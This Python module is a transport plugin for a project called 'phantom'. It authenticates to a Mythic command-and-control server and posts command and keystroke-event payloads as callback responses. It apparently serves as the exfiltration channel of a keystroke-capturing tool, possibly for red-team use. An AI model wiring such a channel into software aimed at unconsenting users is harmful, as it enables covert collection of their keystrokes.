# phantom/plugins/adapters/mythic.py
# Mythic transport (REST API)

from __future__ import annotations

import json
import logging
from collections.abc import Sequence
from typing import TYPE_CHECKING

from phantom.config import TRANSPORT_CONFIG
from phantom.exceptions import ConnectFailed
from phantom.plugins.adapters.http_base import HttpTransport, with_retries
from phantom.plugins.base import Ack, TransportHandle, build_payload

if TYPE_CHECKING:
    from phantom.config import PluginConfig
    from phantom.fingerprint import FingerprintedCommand
    from phantom.keystroke import KeystrokeEvent

logger = logging.getLogger(__name__)


class MythicTransport(HttpTransport):
    """
    Posts commands as callback responses.

    Parameters:
        url: Mythic server (default http://localhost:7443)
        api_key: Sent as the apitoken header
        callback_uuid: Callback the responses belong to
    """

    name = "mythic"

    async def connect(self, config: PluginConfig) -> TransportHandle:
        params = config.parameters
        url = str(params.get("url", TRANSPORT_CONFIG.MYTHIC_URL)).rstrip("/")
        api_key = params.get("api_key")
        callback_uuid = params.get("callback_uuid")
        if not api_key or not callback_uuid:
            msg = "Mythic transport requires api_key and callback_uuid parameters"
            raise ConnectFailed(msg)

        api = f"{url}/api/{TRANSPORT_CONFIG.MYTHIC_API_VERSION}"
        session = self._open_session(config, headers={"apitoken": str(api_key)})
        try:
            await with_retries(
                lambda: self._request(session, "GET", f"{api}/health"),
                config.max_retries,
                f"Mythic health check at {url}",
                error=ConnectFailed,
            )
        except ConnectFailed:
            await session.close()
            raise

        logger.info("Connected to Mythic API at %s", url)
        return TransportHandle(
            transport=self.name,
            config=config,
            session=session,
            state={"api": api, "callback_uuid": str(callback_uuid)},
        )

    async def send(
        self,
        handle: TransportHandle,
        command: FingerprintedCommand,
        events: Sequence[KeystrokeEvent],
    ) -> Ack:
        body = {
            "response": json.dumps(build_payload(command, events), ensure_ascii=False),
            "callback_uuid": handle.state["callback_uuid"],
        }
        data, attempts = await with_retries(
            lambda: self._request(handle.session, "POST", f"{handle.state['api']}/responses/", body),
            handle.config.max_retries,
            "Mythic response",
        )
        return Ack(delivered=True, attempts=attempts, detail="posted to callback", data=data)
